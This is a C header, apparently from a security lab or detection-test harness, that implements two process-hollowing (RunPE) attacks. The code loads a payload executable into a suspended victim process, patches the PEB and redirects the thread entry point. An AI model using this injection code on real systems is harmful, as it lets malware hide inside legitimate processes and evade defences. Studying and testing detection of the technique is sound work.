/* hollow.h - attacks (d) hollow-runpe and (e) hollow-relocated.
 *
 * RunPE: CreateProcess(victim, CREATE_SUSPENDED) -> GetThreadContext ->
 * [NtUnmapViewOfSection(victim image)] -> VirtualAllocEx(RWX) -> write
 * headers and sections of payload.exe -> write PEB.ImageBaseAddress ->
 * SetThreadContext(Rcx = payload entry) -> ResumeThread.
 * HOLLOW_UNMAP: unmap the victim and allocate at the payload's preferred
 * base. Otherwise: keep the victim mapped, allocate anywhere and apply the
 * payload's base relocations. */
#include "attack.h"

typedef LONG(NTAPI *NtUnmapViewOfSection_t)(HANDLE, PVOID);

static unsigned char *read_file(const char *path, DWORD *size)
{
    HANDLE h = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    if (h == INVALID_HANDLE_VALUE)
        lab_die("open-payload");
    *size = GetFileSize(h, NULL);
    unsigned char *buf = HeapAlloc(GetProcessHeap(), HEAP_ZERO_MEMORY, *size);
    DWORD got = 0;
    if (!buf || !ReadFile(h, buf, *size, &got, NULL) || got != *size)
        lab_die("read-payload");
    CloseHandle(h);
    return buf;
}

static void apply_relocations(unsigned char *image, IMAGE_NT_HEADERS64 *nt, ULONG_PTR new_base)
{
    long long delta = (long long)(new_base - nt->OptionalHeader.ImageBase);
    IMAGE_DATA_DIRECTORY dd = nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC];
    if (!dd.VirtualAddress)
        lab_die("payload-has-no-relocations");
    DWORD off = 0;
    while (off + sizeof(IMAGE_BASE_RELOCATION) <= dd.Size) {
        IMAGE_BASE_RELOCATION *blk = (IMAGE_BASE_RELOCATION *)(image + dd.VirtualAddress + off);
        if (blk->SizeOfBlock < sizeof *blk)
            break;
        DWORD count = (blk->SizeOfBlock - sizeof *blk) / 2;
        WORD *ent = (WORD *)(blk + 1);
        for (DWORD i = 0; i < count; i++) {
            if ((ent[i] >> 12) == IMAGE_REL_BASED_DIR64) {
                ULONG_PTR *at = (ULONG_PTR *)(image + blk->VirtualAddress + (ent[i] & 0xFFF));
                *at += (ULONG_PTR)delta;
            }
        }
        off += blk->SizeOfBlock;
    }
    nt->OptionalHeader.ImageBase = new_base;
}

static int hollow_main(const char *name)
{
    char payload_path[MAX_PATH];
    bin_path(payload_path, sizeof payload_path, "payload.exe");
    DWORD file_size = 0;
    unsigned char *file = read_file(payload_path, &file_size);
    IMAGE_DOS_HEADER *dos = (IMAGE_DOS_HEADER *)file;
    IMAGE_NT_HEADERS64 *fnt = (IMAGE_NT_HEADERS64 *)(file + dos->e_lfanew);

    struct victim v;
    victim_start(&v, "victim-crt.exe");
    CONTEXT ctx;
    memset(&ctx, 0, sizeof ctx);
    ctx.ContextFlags = CONTEXT_FULL;
    if (!GetThreadContext(v.pi.hThread, &ctx))
        lab_die("GetThreadContext");

    ULONG_PTR victim_base = v.image_base;
    SIZE_T size = fnt->OptionalHeader.SizeOfImage;
#ifdef HOLLOW_UNMAP
    NtUnmapViewOfSection_t unmap =
        (NtUnmapViewOfSection_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtUnmapViewOfSection");
    if (!unmap || unmap(v.pi.hProcess, (PVOID)victim_base) != 0)
        lab_die("NtUnmapViewOfSection");
    LPVOID want = (LPVOID)fnt->OptionalHeader.ImageBase;
#else
    LPVOID want = NULL;
#endif
    ULONG_PTR base = (ULONG_PTR)VirtualAllocEx(v.pi.hProcess, want, size, MEM_COMMIT | MEM_RESERVE,
                                               PAGE_EXECUTE_READWRITE);
    if (!base)
        lab_die("VirtualAllocEx-image");

    /* build the image locally, relocated for `base` */
    unsigned char *image = HeapAlloc(GetProcessHeap(), HEAP_ZERO_MEMORY, size);
    if (!image)
        lab_die("HeapAlloc");
    memcpy(image, file, fnt->OptionalHeader.SizeOfHeaders);
    IMAGE_NT_HEADERS64 *nt = (IMAGE_NT_HEADERS64 *)(image + dos->e_lfanew);
    IMAGE_SECTION_HEADER *sec = IMAGE_FIRST_SECTION(nt);
    for (WORD i = 0; i < nt->FileHeader.NumberOfSections; i++) {
        DWORD n = sec[i].SizeOfRawData;
        if (n > sec[i].Misc.VirtualSize && sec[i].Misc.VirtualSize)
            n = sec[i].Misc.VirtualSize;
        if (sec[i].PointerToRawData + n > file_size || sec[i].VirtualAddress + n > size)
            lab_die("payload-section-out-of-range");
        memcpy(image + sec[i].VirtualAddress, file + sec[i].PointerToRawData, n);
    }
    if (base != nt->OptionalHeader.ImageBase)
        apply_relocations(image, nt, base);

    /* write headers, then each section, as RunPE does */
    wr(&v, base, image, nt->OptionalHeader.SizeOfHeaders, "write-headers");
    for (WORD i = 0; i < nt->FileHeader.NumberOfSections; i++) {
        DWORD vsize = sec[i].Misc.VirtualSize ? sec[i].Misc.VirtualSize : sec[i].SizeOfRawData;
        if (vsize)
            wr(&v, base + sec[i].VirtualAddress, image + sec[i].VirtualAddress, vsize, "write-section");
    }
    wr(&v, v.peb + 0x10, &base, sizeof base, "write-PEB.ImageBaseAddress");
    ULONG_PTR old_rcx = ctx.Rcx;
    ctx.Rcx = base + nt->OptionalHeader.AddressOfEntryPoint;
    if (!SetThreadContext(v.pi.hThread, &ctx))
        lab_die("SetThreadContext");
    v.image_base = base;

    char detail[256];
    snprintf(detail, sizeof detail,
             "%s victim_base=0x%llx payload_base=0x%llx payload_size=0x%llx old_entry=0x%llx new_entry=0x%llx", name,
             (unsigned long long)victim_base, (unsigned long long)base, (unsigned long long)size,
             (unsigned long long)old_rcx, (unsigned long long)ctx.Rcx);
    victim_report(&v, detail);
    return victim_finish(&v);
}
